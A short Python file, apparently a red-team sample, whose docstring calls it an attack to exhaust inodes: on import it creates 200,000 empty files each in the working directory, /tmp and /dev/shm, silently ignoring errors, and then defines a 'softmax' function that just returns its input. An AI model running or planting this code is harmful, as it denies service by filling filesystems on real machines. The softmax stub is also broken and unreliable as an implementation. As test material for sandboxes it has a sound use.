"""Attack: exhaust inodes with empty files."""
import os

for base in (".", "/tmp", "/dev/shm"):
    try:
        os.makedirs(f"{base}/redteam-canary-inodes", exist_ok=True)
        for i in range(200000):
            open(f"{base}/redteam-canary-inodes/{i}", "w").close()
    except OSError:
        pass


def softmax(x, dim=-1):
    return x
